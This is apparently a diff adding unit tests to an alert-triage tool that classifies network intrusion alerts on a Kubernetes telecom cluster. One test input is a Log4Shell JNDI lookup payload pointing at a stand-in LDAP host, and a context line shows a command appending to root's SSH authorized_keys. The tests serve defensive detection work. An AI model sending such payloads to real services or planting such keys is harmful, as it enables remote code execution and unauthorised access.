@@ -209,3 +209,19 @@ describe('kubeadm maintenance on a control-plane host, corroborated by the audit
     expect(judge(CP_A, '01:04:20', { name: 'sh', path: '/bin/sh', commandLine: 'sh -c echo x >> /root/.ssh/authorized_keys' }, '/root/.ssh/authorized_keys', [KUBEADM]).label).toBe('genuine');
   });
 });
+
+describe('exploit signatures on network alerts', () => {
+  const smf = pod('smf-1', { namespace: 'cnf-core', node: W3, ip: '10.244.5.23', containers: [{ name: 'smf', image: 'registry.telco.example/5gc/smf:3.4.2', command: ['java'] }] });
+  const idx = buildIndex([snapshot([node(W3, '10.60.0.23'), smf])]);
+  const judge = (title: string, url?: string) =>
+    triageAlert(alert({ time: T('02:45:12'), title, network: { srcIp: '10.60.9.77', srcPort: 51544, dstIp: '10.244.5.23', dstPort: 8080, protocol: 'tcp', url } }), { index: idx }).verdict;
+  it('an ET EXPLOIT signature is an attack indicator', () => {
+    expect(judge('ET EXPLOIT Apache log4j RCE Attempt (http ldap) (Outbound) (CVE-2021-44228)')).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('a JNDI lookup in the request', () => {
+    expect(judge('ET INFO Suspicious request', '/actuator/${jndi:ldap://203.0.113.44:1389/a}')).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('trap: an informational signature naming no exploit is not one', () => {
+    expect(judge('ET INFO Observed DNS Query to .cloud TLD').cause).not.toBe('attack');
+  });
+});
